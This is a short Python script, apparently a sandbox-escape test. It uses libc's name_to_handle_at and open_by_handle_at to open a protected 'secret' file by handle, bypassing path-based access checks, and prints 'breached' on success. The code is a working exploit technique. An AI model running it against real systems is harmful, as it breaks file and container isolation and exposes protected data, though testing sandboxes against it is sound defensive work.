"""Open a file of the user by its number instead of its name."""

import ctypes
import os

from targets import secret

print("started")
handle = ctypes.create_string_buffer(136)
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
libc = ctypes.CDLL(None, use_errno=True)
assert libc.name_to_handle_at(-100, secret.encode(), handle, ctypes.byref(mount), 0) == 0
folder = os.open("/", os.O_RDONLY)
assert libc.open_by_handle_at(folder, handle, os.O_RDONLY) >= 0
print("breached")
